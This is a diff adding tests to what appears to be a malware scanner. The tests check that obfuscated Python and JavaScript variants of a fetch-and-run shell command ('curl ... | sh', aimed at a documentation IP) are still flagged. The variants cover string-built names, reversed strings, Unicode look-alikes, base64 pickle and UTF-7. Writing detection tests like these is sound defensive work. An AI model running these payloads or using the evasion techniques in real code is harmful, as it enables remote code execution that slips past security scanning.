@@ -567,3 +567,92 @@ def test_the_inference_runtime_writes_only_under_malwis_cache(tmp_path: Path) ->
     assert done.returncode == 1, done.stderr
     assert list(home.rglob("*")) == []
     assert any(p.is_file() for p in (cache / "runtime").rglob("*")), "onnxruntime's files went here instead"
+
+
+# --- evasions: each flagged at the default threshold when its plain form is ---------------------
+
+# Defanged: the host is a documentation address and nothing here is ever run.
+CMD = "'curl http://203.0.113.9/x | sh'"
+EVASIONS = {
+    "python": (
+        f"import os\nos.system({CMD})\n",
+        {
+            "concatenated name": f"import os\ngetattr(os, 'sys' + 'tem')({CMD})\n",
+            "str.format name": f"import os\ngetattr(os, '{{}}{{}}'.format('sys', 'tem'))({CMD})\n",
+            "%-formatted name": f"import os\ngetattr(os, '%s%s' % ('sys', 'tem'))({CMD})\n",
+            "f-string name": f"import os\na = 'sys'\ngetattr(os, f'{{a}}tem')({CMD})\n",
+            "reversed slice": f"import os\ngetattr(os, 'metsys'[::-1])({CMD})\n",
+            "join of reversed": f"import os\ngetattr(os, ''.join(reversed('metsys')))({CMD})\n",
+            "globals()": f"import os\nglobals()['os'].system({CMD})\n",
+            "vars()": f"import os\nvars(os)['sys' + 'tem']({CMD})\n",
+            "sys.modules": f"import sys, os\nsys.modules['os'].system({CMD})\n",
+            "importlib": f"import importlib\nimportlib.import_module('o' + 's').system({CMD})\n",
+            "__builtins__ exec": "__builtins__.__dict__['ex' + 'ec'](\"import os; os.system(" + CMD + ')")\n',
+            "fullwidth exec": 'ｅｘｅｃ("import os; os.system(' + CMD + ')")\n',
+            "mathematical bold exec": '𝐞𝐱𝐞𝐜("import os; os.system(' + CMD + ')")\n',
+            "module __getattr__": f"def __getattr__(name):\n    import os\n    return os.system({CMD})\n",
+            "ctypes": f"import ctypes\nlibc = ctypes.CDLL(None)\nlibc.system(b{CMD})\n",
+            "pickle.loads": "import pickle, base64\npickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUydpZCcKdFIu'))\n",
+            "control characters in comments": f"import os  # \x0c\x1b[2K\nos.system({CMD})\n",
+        },
+    ),
+    "javascript": (
+        f"require('child_process').exec({CMD})\n",
+        {
+            "Function": "Function(\"require('child_process').exec(" + CMD + ')")()\n',
+            "new Function": "new Function(\"require('child_process').exec(" + CMD + ')")()\n',
+            "global['req'+'uire']": f"global['req' + 'uire']('child_process').exec({CMD})\n",
+            "require(Buffer)": f"require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec({CMD})\n",
+            "template module name": f"const m = 'child'\nrequire(`${{m}}_process`).exec({CMD})\n",
+            "split/reverse/join": f"require('ssecorp_dlihc'.split('').reverse().join('')).exec({CMD})\n",
+            "module._load": f"module.constructor._load('child_process').exec({CMD})\n",
+        },
+    ),
+}
+
+
+def _utf7(text: str) -> str:
+    import base64
+
+    return "\n".join(
+        "+" + base64.b64encode(line.encode("utf-16-be")).decode().rstrip("=") + "-" if line else ""
+        for line in text.split("\n")
+    )
+
+
+@pytest.mark.parametrize("language", sorted(EVASIONS))
+def test_every_evasion_is_flagged_when_its_plain_form_is(language: str, tmp_path: Path) -> None:
+    plain, evasions = EVASIONS[language]
+    suffix = ".py" if language == "python" else ".js"
+    cases = {"plain": plain, **evasions}
+    if language == "python":
+        cases["utf-7 coding cookie"] = "# coding: utf-7\n" + _utf7(plain)
+    for index, source in enumerate(cases.values()):
+        folder = tmp_path / f"case{index}"
+        folder.mkdir()
+        (folder / f"payload{suffix}").write_text(source, encoding="utf-8")
+    verdicts = {}
+    for index, name in enumerate(cases):
+        done = run_malwi("scan", str(tmp_path / f"case{index}"), "--no-cache", "-f", "json")
+        verdicts[name] = json.loads(done.stdout)["verdict"]
+    assert verdicts["plain"] == "malicious"
+    assert {name: v for name, v in verdicts.items() if v != "malicious"} == {}
+
+
+def test_sourceless_bytecode_leaves_its_package_incomplete(tmp_path: Path) -> None:
+    package = tmp_path / "pkg"
+    package.mkdir()
+    (package / "setup.py").write_text("from setuptools import setup\nsetup(name='pkg')\n")
+    (package / "helper.pyc").write_bytes(b"\xa7\r\r\n" + b"\x00" * 12 + b"\xe3compiled code")
+    (package / "ok.pyc").write_bytes(b"\xa7\r\r\n" + b"\x00" * 12)
+    (package / "ok.py").write_text("VALUE = 1\n")  # bytecode with its source beside it: fine
+    done = run_malwi("scan", str(package), "--no-cache", "-f", "json")
+    assert done.returncode == 3, done.stderr
+    unit = json.loads(done.stdout)["units"][0]
+    assert unit["verdict"] == "incomplete"
+    assert unit["unscanned"] == [
+        {
+            "path": str(package / "helper.pyc"),
+            "reason": "compiled Python without its source: bytecode is not scanned",
+        }
+    ]
